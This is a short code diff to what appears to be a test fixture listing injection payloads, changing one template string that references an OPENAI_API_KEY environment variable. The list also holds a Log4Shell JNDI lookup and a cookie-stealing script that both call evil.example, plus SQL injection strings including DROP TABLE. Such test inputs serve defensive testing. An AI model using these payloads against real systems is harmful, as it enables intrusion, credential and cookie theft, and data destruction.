@@ -378,7 +378,7 @@ export const CODE = [
   // biome-ignore lint/suspicious/noTemplateCurlyInString: this is the attack
   '${jndi:ldap://evil.example/a}',
   // biome-ignore lint/suspicious/noTemplateCurlyInString: this is the attack
-  '${process.env.OPENAI_API_KEY}',
+  '${env.OPENAI_API_KEY}',
   "' OR 1=1 --",
   "'; DROP TABLE todo; --",
   '<script>fetch("https://evil.example/"+document.cookie)</script>',
